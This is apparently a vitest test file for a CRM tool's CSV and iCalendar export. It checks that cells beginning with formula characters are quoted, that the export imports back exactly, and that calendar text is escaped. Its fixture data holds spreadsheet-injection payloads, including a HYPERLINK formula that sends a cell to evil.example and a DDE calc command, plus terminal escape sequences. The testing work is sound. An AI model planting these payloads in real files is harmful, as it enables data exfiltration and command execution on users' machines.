// Hostile text leaving crm for another program: a CSV export opened in a spreadsheet must show each text and
// run nothing (issue 9, case 12: a cell starting with = + - @ is a formula there), and crm's own import must
// read it back exactly; a calendar feed must stay valid iCalendar whatever a date or a text holds (case 13).
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/core/csv.js';
import { addClient } from '../../src/store/clients.js';
import { addFollowUp } from '../../src/store/followups.js';
import { logInteraction } from '../../src/store/interactions.js';
import { addInvoice } from '../../src/store/invoices.js';
import { openBook } from '../../src/store/open.js';
import { DEFAULT_NOW, TempBook, runCrmAsync, type RunResult } from '../helpers/cli.js';
import { parseIcs } from '../helpers/ics.js';

/** Texts a spreadsheet would run: the OWASP examples, a leading space before one, a quote before one. */
const FORMULA = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  company: "+cmd|'/C calc'!A0",
  email: '=cmd@evil.example',
  tag: '-2+3',
  note: "'=already quoted",
  other: '@SUM(1+1)',
  summary: '-1+1 they said',
  invoiceNote: '=1+1',
};

let book: TempBook;
let other: TempBook;
const ok = async (target: TempBook, args: string[]): Promise<RunResult> => {
  const result = await runCrmAsync(args, { env: { CRM_DB: target.path }, now: target.now });
  expect(result.code, `crm ${args.join(' ')}: ${result.stderr}`).toBe(0);
  return result;
};
const TABLES = ['clients', 'interactions', 'invoices'] as const;
const exportCsv = (target: TempBook) => Promise.all(TABLES.map((table) => ok(target, ['export', '--format', 'csv', '--table', table]).then((r) => r.stdout)));

beforeAll(() => {
  book = new TempBook();
  other = new TempBook();
  // Written as a command (or an import) would write them: every one of these texts is a valid input.
  const now = Date.parse(DEFAULT_NOW);
  const { db } = openBook(book.path, { mode: 'write', now });
  try {
    const evil = addClient(db, { name: FORMULA.name, company: FORMULA.company, email: FORMULA.email, tags: [FORMULA.tag], note: FORMULA.note, since: '2026-01-01', createdAt: now });
    const sum = addClient(db, { name: FORMULA.other, since: '2026-01-01', createdAt: now });
    logInteraction(db, {
      clientId: sum.id, at: now - 86_400_000, channel: 'call', fromClient: false, tone: -2, summary: FORMULA.summary, horsemen: [], feedback: false,
      bids: [], answer: null, conflictTopic: null, repair: false, appreciations: [], needs: [], followUp: null, now,
    });
    addInvoice(db, { clientId: evil.id, number: null, amountMinor: 120_050, currency: 'EUR', issued: '2026-11-01', due: '2026-11-15', note: FORMULA.invoiceNote });
    addFollowUp(db, evil.id, '9999-12-31', 'far; away, \\ and\nnewline \x1b]0;T\x07\u009b31m', now);
    addFollowUp(db, sum.id, '2026-12-01', 'soon', now);
  } finally {
    db.close();
  }
});
afterAll(() => {
  book.cleanup();
  other.cleanup();
});

/** Rows keyed by the header, without the columns a new book gives its own values. */
const rows = (csv: string) => {
  const [header = [], ...body] = parseCsv(csv);
  const own = ['id', 'createdAt', 'trackedFrom'];
  return body.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i] ?? '']).filter(([h]) => !own.includes(h!))));
};

describe('CSV export of formulas', () => {
  it('writes each formula with a single quote first, and crm import reads every table back exactly; numbers stay numbers', async () => {
    const [clients, interactions, invoices] = (await exportCsv(book)) as [string, string, string];
    expect(clients).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(clients).toContain(`,'=cmd@evil.example,'+cmd|'/C calc'!A0,'-2+3,`);
    expect(clients).toContain(`,''=already quoted,`);
    expect(clients).toContain("\r\n2,'@SUM(1+1),");
    expect(interactions).toContain(",call,false,-2,'-1+1 they said,"); // the tone stays -2, a number
    expect(invoices).toContain(",1200.50,EUR,2026-11-01,2026-11-15,,,overdue,'=1+1\r\n");
    // No cell, as a spreadsheet reads it, starts a formula (a plain negative number is none).
    for (const csv of [clients, interactions, invoices]) {
      for (const line of csv.split('\r\n')) {
        for (const cell of line.split(',').map((c) => c.replace(/^"/, ''))) expect(cell).not.toMatch(/^\s*[=+@]|^\s*-(?!\d+(\.\d+)?$)/);
      }
    }

    const files = TABLES.map((table, i) => {
      const file = join(other.dir, `${table}.csv`);
      writeFileSync(file, [clients, interactions, invoices][i]!);
      return file;
    });
    await ok(other, ['import', files[0]!]);
    await Promise.all([ok(other, ['import', files[1]!, '--table', 'interactions']), ok(other, ['import', files[2]!, '--table', 'invoices'])]);
    const again = await exportCsv(other);
    expect(again.map(rows)).toEqual([clients, interactions, invoices].map(rows));
    const names = rows(again[0]!).map((client) => client.name);
    expect(names).toEqual(expect.arrayContaining([FORMULA.name, FORMULA.other]));
    expect(rows(again[0]!).find((client) => client.name === FORMULA.name)).toMatchObject({ company: FORMULA.company, note: FORMULA.note, tags: FORMULA.tag });
  });
});

describe('iCalendar feed', () => {
  it('gives a follow-up due 9999-12-31 as that day (no 5-digit DTEND), its text escaped, controls removed, and parses', async () => {
    const feed = (await ok(book, ['followup', 'list', '--ics'])).stdout;
    expect(feed).toContain('DTSTART;VALUE=DATE:99991231\r\n');
    expect(feed).not.toMatch(/DATE:\d{9}/);
    expect(feed.replaceAll('\r\n ', '')).toContain('far\\; away\\, \\\\ and\\nnewline ]0\\;T31m');
    expect(feed).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f]/);
    for (const line of feed.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    const events = parseIcs(feed).events;
    expect(events.map((event) => event.start)).toEqual(['2026-12-01', '9999-12-31']);
    expect(events[1]!.summary).toBe(`Follow up with ${FORMULA.name}: far; away, \\ and\nnewline ]0;T31m`);
  });
});
